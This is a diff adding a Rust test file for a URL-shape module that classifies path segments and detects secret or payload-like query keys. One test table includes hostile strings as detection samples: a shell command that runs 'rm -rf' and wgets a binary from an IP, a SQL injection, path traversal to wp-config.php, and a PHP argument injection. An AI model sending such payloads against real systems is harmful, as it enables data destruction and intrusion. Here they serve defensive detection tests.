@@ -1,0 +1,181 @@
+//! Tests of `shape.rs`: how segments and query values are read.
+
+#[test]
+fn owned_bytes_read_as_borrowed_ones_do() {
+    for bytes in [&b"/t\xc3\xa9st?q=1"[..], b"/a\xffb", b"", b"{x}"] {
+        assert_eq!(super::lossless_owned(bytes.to_vec()), super::lossless(bytes));
+    }
+    assert_eq!(super::lossless_owned(b"/a\xffb".to_vec()), "/a%FFb");
+}
+
+#[test]
+fn payloads_are_not_query_key_names() {
+    let table: [(&str, bool); 12] = [
+        ("page", false),
+        ("utm_source", false),
+        ("vars[1][]", false),
+        ("filter%5Bname%5D", false),
+        ("X-Amz-Date", false),
+        ("cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/jaws", true),
+        ("1'+OR+'1'='1", true),
+        ("National+Weather+Service", true),
+        ("/../../wp-config.php", true),
+        ("%kzsy(9035)", true),
+        ("-d+allow_url_include%3Don", true),
+        ("a%20b", true),
+    ];
+    for (key, payload) in table {
+        assert_eq!(is_payload_key(key.as_bytes()), payload, "{key}");
+    }
+    assert!(is_payload_key("k".repeat(65).as_bytes()));
+}
+
+use super::*;
+
+#[test]
+fn segments() {
+    let table: [(&str, Segment); 16] = [
+        ("users", Segment::Literal),
+        ("me", Segment::Literal),
+        ("v2", Segment::Literal),
+        ("sts-68", Segment::Literal),
+        ("how-to-build-a-thing-in-rust-2024", Segment::Literal),
+        ("123", Segment::Id),
+        ("20261128", Segment::Date),
+        ("2026-11-28", Segment::Date),
+        ("550e8400-e29b-41d4-a716-446655440000", Segment::Uuid),
+        ("6806ed71570139f1656554d94bbb", Segment::Hash),
+        ("deadbeefcafebabe", Segment::Literal),
+        ("alice@example.com", Segment::Email),
+        ("alice%40example.com", Segment::Email),
+        ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig_abc123", Segment::Token),
+        ("AKIAIOSFODNN7EXAMPLE9x2kq", Segment::Token),
+        ("", Segment::Literal),
+    ];
+    for (seg, want) in table {
+        assert_eq!(classify(seg.as_bytes()), want, "{seg}");
+    }
+}
+
+#[test]
+fn secrets_in_queries() {
+    for key in [
+        "token",
+        "access_token",
+        "api_key",
+        "apiKey",
+        "password",
+        "SESSIONID",
+        "sig",
+        "X-Amz-Signature",
+        "auth",
+        "email",
+        "accesstoken",
+        "X-Api-Key",
+        "user[password]",
+        "csrfToken",
+    ] {
+        assert!(is_secret_key(key.as_bytes()), "{key}");
+    }
+    for key in ["page", "q", "sort", "id", "ref", "format", "insignia", "design", "monkey", "keyword", "assignment", "authors_page"] {
+        assert!(!is_secret_key(key.as_bytes()), "{key}");
+    }
+    for value in [
+        "bob@example.org",
+        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
+        "sk_live_51HxYz0AbCdEfGhIjKlMnOp",
+        "9f86d081884c7d659a2feaa0c55ad015",
+    ] {
+        assert!(is_secret_value(value.as_bytes()), "{value}");
+    }
+    for value in ["1", "price", "2026-11-28", "home"] {
+        assert!(!is_secret_value(value.as_bytes()), "{value}");
+    }
+    assert_eq!(placeholder_for(b"X-Amz-Signature"), "{X_Amz_Signature}");
+    // Weak keys are secret by their value: a credential's look, not a word every client sends.
+    let pairs: [(&str, &str, bool); 12] = [
+        ("state", "active", false),
+        ("state", "null", false),
+        ("code", "404", false),
+        ("code", "en-US", false),
+        ("key", "title", false),
+        ("code", "f2405b05-e2ee-4b0d-8f6a-9fed0fcfe2e0", true),
+        ("code", "482913", true),
+        ("state", "a8Fk29dQ", true),
+        ("key", "efa740bd-b021-4370-97c6-7263338e51e9demo", true),
+        ("password", "x", true),
+        ("page", "2", false),
+        ("page", "bob@example.org", true),
+    ];
+    for (key, value, secret) in pairs {
+        assert_eq!(is_secret_pair(key.as_bytes(), value.as_bytes()), secret, "{key}={value}");
+    }
+}
+
+/// The byte-by-byte `match` this table-driven version replaced, kept as its reference.
+fn is_random_by_match(s: &[u8]) -> bool {
+    if s.len() < 24 {
+        return false;
+    }
+    let (mut digits, mut upper, mut lower) = (0usize, 0usize, 0usize);
+    // Slugs (`how-to-build-a-thing-in-rust-2024`) keep letters and digits in
+    // separate words; random strings mix them within a long run.
+    let (mut run, mut run_digit, mut run_alpha, mut mixed_run) = (0usize, false, false, false);
+    for &b in s {
+        match b {
+            b'0'..=b'9' => {
+                digits += 1;
+                run_digit = true;
+            }
+            b'A'..=b'Z' => {
+                upper += 1;
+                run_alpha = true;
+            }
+            b'a'..=b'z' => {
+                lower += 1;
+                run_alpha = true;
+            }
+            b'+' | b'/' | b'=' => {}
+            // A dot belongs to a token's alphabet, but a segment with one is a file name.
+            b'.' => return false,
+            b'-' | b'_' | b'~' => {
+                (run, run_digit, run_alpha) = (0, false, false);
+                continue;
+            }
+            _ => return false,
+        }
+        run += 1;
+        mixed_run |= run >= 8 && run_digit && run_alpha;
+    }
+    let classes = usize::from(digits > 0) + usize::from(upper > 0) + usize::from(lower > 0);
+    mixed_run && classes >= 2 && digits >= 2 && (classes == 3 || s.len() >= 32)
+}
+
+#[test]
+fn random_tokens_are_judged_as_the_byte_match_judged_them() {
+    let (plain, special) = (b"abcXYZ0123456789", b"-_~+/=.%");
+    let mut state = 0x2545_f491_4f6c_dd1du64;
+    let mut next = move || {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        state
+    };
+    let mut tokens = 0;
+    for _ in 0..20_000 {
+        let len = 20 + (next() % 24) as usize;
+        // Mostly letters and digits, so the long mixed runs the rule looks for happen.
+        let text: Vec<u8> = (0..len)
+            .map(|_| {
+                let r = next();
+                if r % 32 == 0 { special[(r >> 8) as usize % special.len()] } else { plain[(r >> 8) as usize % plain.len()] }
+            })
+            .collect();
+        assert_eq!(is_random(&text), is_random_by_match(&text), "{}", String::from_utf8_lossy(&text));
+        tokens += usize::from(is_random(&text));
+    }
+    // Both answers were put to the test.
+    assert!((4_000..16_000).contains(&tokens), "{tokens} tokens of 20,000");
+    assert!(is_random(b"AKIAIOSFODNN7EXAMPLE9x2kq"));
+    assert!(!is_random(b"how-to-build-a-thing-in-rust-2024"));
+}
